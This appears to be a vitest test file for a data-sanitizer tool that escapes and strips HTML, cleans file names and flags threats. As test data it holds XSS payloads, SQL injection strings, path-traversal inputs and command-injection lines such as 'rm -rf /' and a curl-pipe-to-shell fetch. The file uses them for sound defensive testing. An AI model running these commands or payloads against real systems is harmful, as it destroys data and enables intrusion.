import { runInNewContext } from 'node:vm';
import { callTool } from '@toolyard/sdk/testing';
import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import stringEscape from '../../../plugins/encoding/tools/string-escape/tool.ts';
import dataSanitizer from '../../../plugins/security/tools/data-sanitizer/tool.ts';

async function clean(text: string, ...operations: string[]): Promise<string> {
  return (await callTool(dataSanitizer, { text, operations })).result;
}

async function threats(text: string): Promise<string[]> {
  const found = (await callTool(dataSanitizer, { text })).threats;
  return [...new Set(found.map(({ type }) => type))];
}

test('steps are applied in order, and said', async () => {
  expect(
    await callTool(dataSanitizer, { text: ' <b> ', operations: ['escape_html', 'trim', 'escape_sql'] }),
  ).toEqual({
    result: '&lt;b&gt;',
    changed: true,
    applied: ['escape_html', 'trim', 'escape_sql'],
    threats: [],
  });
});

test('clean text is left alone', async () => {
  const input = { text: 'Zoë O’Hara, 5 %', operations: ['strip_control', 'trim', 'escape_html'] };
  expect(await callTool(dataSanitizer, input)).toMatchObject({
    result: input.text,
    changed: false,
    threats: [],
  });
});

describe('strip_control', () => {
  test.each([
    ['controls', 'a\u0000\u0007\u007f\u0085b', 'ab'],
    ['but not tab and line ends', '\ta\r\nb', '\ta\r\nb'],
    ['zero-width space, word joiner, soft hyphen, BOM', '\ufeffa\u200b\u2060\u00adb', 'ab'],
    ['direction marks', 'a\u202eexe.txt\u202c\u2066\u2069', 'aexe.txt'],
    ['joiners between others', '1\u200d2 \u200c\u200da', '12 a'],
    ['but not in words that need them', 'می\u200cخواهم क्\u200dष', 'می\u200cخواهم क्\u200dष'],
    ['nor in emoji', '👩‍👩‍👧 ❤️‍🔥 👩🏽‍🚀 🏳️‍🌈', '👩‍👩‍👧 ❤️‍🔥 👩🏽‍🚀 🏳️‍🌈'],
    ['tags', 'a\u{e0061}\u{e0062}', 'a'],
    ['but not in the flag of Wales', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}', '🏴󠁧󠁢󠁷󠁬󠁳󠁿'],
    ['a message behind a flag', `\u{1f3f4}${'\u{e0061}'.repeat(9)}\u{e007f}`, '\u{1f3f4}'],
  ])('drops %s', async (_, text, result) => {
    expect(await clean(text, 'strip_control')).toBe(result);
  });

  test('leaves nothing to drop', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
        const once = await clean(text, 'strip_control');
        expect(await clean(once, 'strip_control')).toBe(once);
      }),
    );
  });
});

test.each([
  ['normalize', 'ﬁ ① Ａ', 'fi 1 A'],
  ['escape_html', `&<>"'\``, '&amp;&lt;&gt;&quot;&#39;`'],
  ['escape_sql', "x' OR '1'='1' --", "x'' OR ''1''=''1'' --"],
  ['trim', '\u00a0 a b \n', 'a b'],
  ['strip_tags', '<style>p{}</style><p>1 &lt; 2 <i>and</i> 3 > 2</p>', '1 < 2 and 3 > 2'],
  ['strip_tags', 'a<!-- b --><script>c</script><SCRIPT>d</SCRIPT >e<br>f &eacute;&#x1F600;', 'aef é😀'],
  ['strip_tags', '<p title="a>b">x</p', 'x'],
  ['strip_tags', '1 < 2', '1 < 2'],
])('%s of %j', async (operation, text, result) => {
  expect(await clean(text, operation)).toBe(result);
});

describe('escape_js', () => {
  test('is what string-escape gives for JavaScript, and comes back from literals of any kind', async () => {
    const signs = fc.constantFrom(
      '\\',
      "'",
      '"',
      '`',
      '${',
      '$',
      '{',
      '</',
      '<',
      '/',
      '\n',
      '\u2028',
      '\0',
      'é',
      '😀',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(signs, fc.string({ unit: 'binary' }))), async (parts) => {
        const text = parts.join('');
        const escaped = await clean(text, 'escape_js');
        expect(escaped).toBe((await callTool(stringEscape, { text, format: 'javascript' })).result);
        for (const quote of ["'", '"', '`']) expect(runInNewContext(quote + escaped + quote)).toBe(text);
      }),
    );
  });
});

describe('safe_html', () => {
  test.each([
    ['harmless markup stays', '<p>a<br>b &amp; <em>c</em></p><hr>', '<p>a<br>b &amp; <em>c</em></p><hr>'],
    ['other elements go, their content stays', '<div class="x"><font>a</font></div>', 'a'],
    ['code goes with its content', 'a<svg><b>x</b></svg><math>y</math><iframe>z</iframe>b', 'ab'],
    ['comments go', 'a<!-- b -->c', 'ac'],
    ['attributes go', '<p style="x" onclick=y id=z>a</p>', '<p>a</p>'],
    [
      'but href and title of a',
      '<a href="/x?a=1&amp;b" title="t" rel=n>l</a>',
      '<a href="/x?a=1&amp;b" title="t">l</a>',
    ],
    ['mail addresses may be linked', '<a href="mailto:a@b.org">l</a>', '<a href="mailto:a@b.org">l</a>'],
    ['a scheme in disguise may not', '<a href=" java&#10;script&colon;alert(1)">l</a>', '<a>l</a>'],
    ['nor data', '<a href="data:text/html,x">l</a>', '<a>l</a>'],
    ['what is no tag is text', '1 < 2 > 0', '1 &lt; 2 &gt; 0'],
    ['what is left open is closed', '<b><i>a', '<b><i>a</i></b>'],
  ])('%s', async (_, text, result) => {
    expect(await clean(text, 'safe_html')).toBe(result);
  });

  test('keeps the elements that the caller allows, without attributes', async () => {
    const input = { text: '<DIV id=x><b>a</b></DIV>', operations: ['safe_html'], allowed_tags: ['div'] };
    expect(await callTool(dataSanitizer, input)).toMatchObject({ result: '<div>a</div>' });
  });

  const ALLOWED =
    /^(?:a|b|blockquote|br|code|del|em|h[1-6]|hr|i|li|ol|p|pre|s|span|strong|sub|sup|table|tbody|td|th|thead|tr|u|ul)$/;

  const FRAGMENTS = [
    '<script> </script> <svg  <math> <a href= javascript: " \' > /> <!-- --> <noscript> <style> </style> &lt; &#x6A;',
    '<textarea> </textarea/> <xmp> <p title=" <template> <![CDATA[ ]]> <title> <iframe srcdoc= <plaintext> <b http://a',
    '<select><option> </p> \0 \n',
  ]
    .flatMap((line) => line.split(' '))
    .concat('<img src=x onerror=alert(1)>', '<a title="</noscript><img src=x onerror=x>">', '<svg ', '<b ');

  test('lets nothing else out, whatever comes in', async () => {
    const pieces = fc.constantFrom(...FRAGMENTS);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 15 }), async (parts) => {
        const html = await clean(parts.join(''), 'safe_html');
        const strange: unknown[] = [];
        const parser = new Parser({
          onopentag: (name, { href = '', title = '', ...others }) => {
            const link = ['http:', 'https:', 'mailto:'].includes(
              URL.parse(href, 'http://a')?.protocol ?? 'http:',
            );
            const plain = name === 'a' ? link : href + title === '';
            if (!ALLOWED.test(name) || !plain || Object.keys(others).length > 0)
              strange.push([name, href, others]);
          },
          oncomment: (comment) => strange.push(comment),
        });
        parser.end(html);
        expect(strange).toEqual([]);
        expect(await clean(html, 'safe_html')).toBe(html);
      }),
      { numRuns: 300 },
    );
  });

  test('says its bound for elements in each other', async () => {
    expect(await clean('<b>'.repeat(1000), 'safe_html')).toHaveLength(7000);
    for (const operation of ['safe_html', 'strip_tags']) {
      await expect(clean('<b>'.repeat(1001), operation)).rejects.toThrow(
        'text: expected HTML with at most 1000 elements in each other',
      );
    }
    expect(await clean('<b></b>'.repeat(5000), 'strip_tags')).toBe('');
  });
});

describe('filename', () => {
  test.each([
    ['../../etc/pass:wd?.txt', '_.._etc_pass_wd_.txt'],
    ['..\\a<b>|c*"d"\n', '_a_b__c__d__'],
    ['.htaccess', 'htaccess'],
    [' . a.txt . ', 'a.txt'],
    ['con', '_con'],
    ['LPT1.tar.gz', '_LPT1.tar.gz'],
    ['console.log', 'console.log'],
    ['com10', 'com10'],
    ['...', 'file'],
    ['', 'file'],
    ['a\ud800b', 'a_b'],
    ['Grüße 😀.md', 'Grüße 😀.md'],
  ])('%j', async (text, result) => {
    expect(await clean(text, 'filename')).toBe(result);
  });

  test('cuts to 255 bytes before the extension, between characters', async () => {
    expect(await clean(`${'a'.repeat(251)}.txt`, 'filename')).toBe(`${'a'.repeat(251)}.txt`);
    expect(await clean(`${'a'.repeat(252)}.txt`, 'filename')).toBe(`${'a'.repeat(251)}.txt`);
    expect(await clean(`${'é'.repeat(200)}.txt`, 'filename')).toBe(`${'é'.repeat(125)}.txt`);
    expect(await clean('👩‍👩‍👧'.repeat(20), 'filename')).toBe('👩‍👩‍👧'.repeat(14));
    expect(await clean(`a.${'b'.repeat(300)}`, 'filename')).toBe(`a.${'b'.repeat(253)}`);
  });

  test('is one that every file system takes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 400 }), async (text) => {
        const name = await clean(text, 'filename');
        expect(name).toMatch(/^[^\s.\p{Cc}/\\:*?"<>|](?:[^\p{Cc}/\\:*?"<>|]*[^\s.\p{Cc}/\\:*?"<>|])?$/u);
        expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
        expect(await clean(name, 'filename')).toBe(name);
      }),
    );
  });
});

describe('threats', () => {
  test.each([
    ['<script>alert(1)</script>', ['xss']],
    ['<img src=x onerror=alert(1)>', ['xss']],
    ['JavaScript :alert(1)', ['xss']],
    ["' OR '1'='1", ['sql_injection']],
    ['1 or 1=1', ['sql_injection']],
    ["admin'--", ['sql_injection']],
    ['1 UNION ALL SELECT password FROM users', ['sql_injection']],
    ['x; DROP TABLE users', ['sql_injection']],
    ['../../etc/passwd', ['path_traversal']],
    ['%2e%2e%2fetc', ['path_traversal']],
    ['; rm -rf /', ['command_injection']],
    ['$(whoami)', ['command_injection']],
    ['a && curl http://x | sh', ['command_injection']],
    ['a\u202eb', ['hidden_characters']],
    ['a\u0000b', ['hidden_characters']],
  ])('sees one in %j', async (text, types) => {
    expect(await threats(text)).toEqual(types);
  });

  test.each([
    "It's Tom & Jerry's; one = 1, or 2 = two?",
    'Use `code` and $(document).ready() … and so on.',
    '<p>An <b>online</b> shop</p>',
    "Don't drop the table; select a union.",
    '👩‍👩‍👧 می‌خواهم',
    'a..b / c.. d',
  ])('sees none in %j', async (text) => {
    expect(await threats(text)).toEqual([]);
  });

  test('says where, in order, and the first 80 characters', async () => {
    const text = `😀<script ${'😀'.repeat(100)}>../\u200b\u200b\u200b`;
    expect((await callTool(dataSanitizer, { text })).threats).toEqual([
      { type: 'xss', match: `<script ${'😀'.repeat(72)}`, index: 2 },
      { type: 'path_traversal', match: '../', index: text.indexOf('../') },
      { type: 'hidden_characters', match: '\u200b\u200b\u200b', index: text.length - 3 },
    ]);
  });

  test('lists no more than 100 of a type', async () => {
    expect((await callTool(dataSanitizer, { text: '<svg> '.repeat(101) })).threats).toHaveLength(100);
  });
});

test.each([
  ['an unknown operation', { text: 'a', operations: ['remove_evil'] }, 'operations[0]: expected one of'],
  ['no operation', { text: 'a', operations: [] }, 'operations: expected at least 1 element'],
  [
    'script as an allowed tag',
    { text: 'a', allowed_tags: ['b', 'SCRIPT'] },
    'allowed_tags[1]: script cannot be',
  ],
  [
    'noscript as an allowed tag',
    { text: 'a', allowed_tags: ['noscript'] },
    'allowed_tags[0]: noscript cannot be',
  ],
  [
    'no name of a tag',
    { text: 'a', allowed_tags: ['<b>'] },
    'allowed_tags[0]: expected the name of an element',
  ],
])('refuses %s', async (_, input, message) => {
  await expect(callTool(dataSanitizer, input)).rejects.toThrow(message);
});
